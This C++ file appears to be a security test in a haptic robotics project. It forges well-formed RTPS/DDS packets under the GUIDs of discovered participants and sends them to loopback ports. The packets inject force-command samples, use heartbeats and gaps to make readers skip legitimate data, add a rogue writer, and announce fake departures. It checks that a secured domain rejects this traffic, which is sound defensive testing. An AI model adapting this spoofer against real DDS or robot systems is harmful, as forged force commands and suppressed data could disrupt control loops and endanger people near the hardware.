// forge: well-formed RTPS under the GUIDs of present participants: samples of the loop's topics,
// heartbeats, gaps, goodbyes, and endpoints.
#include <arpa/inet.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <exception>
#include <string_view>
#include <thread>

#include <fmt/format.h>
#include <CLI/CLI.hpp>

#include "qos/topics.hpp"
#include "tests/attack/network/draft.hpp"
#include "voxtouch_msgs/messages.hpp"

namespace {

using namespace voxtouch;
using namespace voxtouch::attack;
using Clock = std::chrono::steady_clock;

constexpr std::uint8_t kHeartbeat = 7, kGap = 8;
constexpr std::uint32_t kFar =
    1U << 30;  ///< a sequence number that the authorised writer does not reach
constexpr std::uint64_t kWriters =
    40;  ///< Cyclone DDS numbers the endpoints of a participant from 1 on
constexpr std::uint32_t kParticipants = 0x000100c2, kPublications = 0x000003c2;
/// Built-in writers of discovery and liveliness, plain and secured, and of the handshake.
constexpr std::uint32_t kBuiltIn[] = {kPublications, 0x000004c2, 0x000200c2, 0xff0003c2, 0xff0004c2,
                                      0xff0200c2,    0xff0101c2, 0xff0202c3, 0x000201c3};

class Forged : public Draft {
 public:
  Forged(const GuidPrefix& prefix, std::uint32_t turn)
      : Draft(1, turn),
        prefix_(prefix),
        turn_(turn) {
    for (const char c : {'R', 'T', 'P', 'S'})
      byte(static_cast<std::uint8_t>(c));
    byte(2), byte(1), byte(1), byte(0x10), append(prefix_);
  }
  /// A sample of all zeros but for its first words and its force, from each writer that there may
  /// be.
  void samples(std::size_t bytes) {
    for (std::uint64_t n = 1; n <= kWriters; ++n) {
      const std::size_t from = data(static_cast<std::uint32_t>(n << 8 | 0x03), 5, 1);
      number<std::uint64_t>(turn_), number<std::uint64_t>(turn_);
      for (std::size_t k = 16; k < bytes; k += 8)
        number<std::uint64_t>(0x4020000000000000U);  // 8.0
      end(from);
    }
  }
  /// Declares that all before kFar is gone: a reader of ordered samples skips the following ones.
  void bookkeeping(std::uint8_t kind) {
    const auto one = [&](std::uint32_t writer) {
      const std::size_t from = submessage(kind, 1);
      big_endian(0), big_endian(writer), number<std::uint32_t>(0),
          number<std::uint32_t>(kind == kGap ? 1 : kFar + turn_);
      number<std::uint32_t>(0), number(kFar + turn_),
          number<std::uint32_t>(kind == kGap ? 0 : turn_);
      end(from);
    };
    for (std::uint64_t n = 1; n <= kWriters; ++n)
      one(static_cast<std::uint32_t>(n << 8 | 0x03));
    for (const std::uint32_t writer : kBuiltIn)
      one(writer);
  }
  /// Declares that the participant and its endpoints have left.
  void goodbye(std::uint32_t writer, std::uint32_t entity) {
    const std::size_t from = data(writer, 7 | 8, 3);
    parameter(writer == kParticipants ? 0x50 : 0x5a, 16), append(prefix_), big_endian(entity),
        sentinel();
    end(from);
  }
  /// One more writer of the participant, on the topic of the commands.
  void endpoint() {
    const std::size_t from = data(kPublications, 5, 3);
    parameter(0x5a, 16), append(prefix_), big_endian(0x00007703);
    text(0x05, qos::dds_name(qos::kForceCommand, "haptic")),
        text(0x07, "voxtouch_msgs::msg::dds_::ForceCommand_"), sentinel();
    end(from);
  }

 private:
  std::size_t submessage(std::uint8_t kind, std::uint64_t flags) {
    byte(kind), byte(flags), number<std::uint16_t>(0);
    return size();
  }
  void end(std::size_t from) { set_length(from - 2, size() - from); }
  std::size_t data(std::uint32_t writer, std::uint64_t flags, std::uint64_t encoding) {
    const std::size_t from = submessage(kData, flags);
    number<std::uint16_t>(0), number<std::uint16_t>(16), big_endian(0), big_endian(writer);
    number<std::uint32_t>(0), number(kFar + turn_);
    if ((flags & 2U) != 0)
      parameter(0x71, 4), number<std::uint32_t>(0x03000000),
          sentinel();  // disposed and unregistered
    byte(0), byte(encoding), number<std::uint16_t>(0);
    return from;
  }
  void parameter(std::uint16_t id, std::uint16_t bytes) { number(id), number(bytes); }
  void sentinel() { number<std::uint16_t>(1), number<std::uint16_t>(0); }
  void text(std::uint16_t id, std::string_view value) {
    const std::size_t padded = (value.size() + 1 + 3) / 4 * 4;
    parameter(id, static_cast<std::uint16_t>(4 + padded)),
        number(static_cast<std::uint32_t>(value.size() + 1)), append(value);
    for (std::size_t n = value.size(); n < padded; ++n)
      byte(0);
  }
  GuidPrefix prefix_;
  std::uint32_t turn_;
};

std::vector<Bytes> forgeries(const GuidPrefix& prefix, std::uint32_t turn, bool says_goodbye) {
  std::vector<Bytes> all;
  const auto add = [&](const auto& fill) {
    Forged one(prefix, turn);
    fill(one);
    all.push_back(std::move(one).take());
  };
  for (const std::size_t bytes :
       {sizeof(msg::ForceCommand), sizeof(msg::ContactState), sizeof(msg::DeviceState)})
    add([&](Forged& f) { f.samples(bytes); });
  add([](Forged& f) { f.bookkeeping(kHeartbeat); });
  add([](Forged& f) { f.bookkeeping(kGap); });
  add([](Forged& f) { f.endpoint(); });
  if (says_goodbye)
    add([](Forged& f) { f.goodbye(kParticipants, 0x000001c1); });
  if (says_goodbye)
    add([](Forged& f) {
      for (std::uint64_t n = 1; n <= kWriters; ++n)
        f.goodbye(kPublications, static_cast<std::uint32_t>(n << 8 | 0x03));
    });
  return all;
}

int run(std::uint32_t domain, double seconds, bool says_goodbye) {
  const int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  const auto until = Clock::now() + std::chrono::duration<double>(seconds);
  std::uint64_t sent = 0;
  std::size_t most = 0;
  Neighbours known;  // learns meanwhile which participants join and leave
  for (std::uint32_t turn = 1; Clock::now() < until; ++turn) {
    Neighbours received =
        listen_for_neighbours(domain, std::chrono::milliseconds(turn == 1 ? 1000 : 20));
    known.prefixes.merge(received.prefixes), known.ports.merge(received.ports);
    known.ports.insert(discovery_port(domain));
    most = std::max(most, known.prefixes.size());
    for (const GuidPrefix& prefix : known.prefixes)
      for (const Bytes& bytes : forgeries(prefix, turn, says_goodbye))
        for (const std::uint16_t port : known.ports) {
          sockaddr_in to{};
          to.sin_family = AF_INET, to.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
          to.sin_port = htons(port);
          sent += sendto(fd, bytes.data(), bytes.size(), 0, reinterpret_cast<const sockaddr*>(&to),
                         sizeof to) >= 0;
        }
  }
  close(fd);
  fmt::print("figure: {} forged datagrams under {} GUIDs\n", sent, most);
  return most == 0 ? 1 : 0;
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app(
      "Sends well-formed RTPS to the loopback ports of a DDS domain under the GUIDs of those who "
      "are there: samples far ahead of theirs, heartbeats\n"
      "and gaps that make readers skip theirs, one more writer of theirs, and that they have gone. "
      "A plain ring does not stand it; a secured one\n"
      "takes none of it. Exit status 1: none was there.");
  std::uint32_t domain = 0;
  double seconds = 5.0;
  bool no_goodbye = false;
  app.add_option("--domain", domain, "DDS domain")->required()->check(CLI::Range(0U, 200U));
  app.add_option("--seconds", seconds, "how long it sends")
      ->check(CLI::Range(0.0, 600.0))
      ->capture_default_str();
  app.add_flag("--no-goodbye", no_goodbye, "without the goodbyes");
  CLI11_PARSE(app, argc, argv);
  try {
    return run(domain, seconds, !no_goodbye);
  } catch (const std::exception& error) {
    fmt::print(stderr, "error: {}\n", error.what());
    return 1;
  }
}
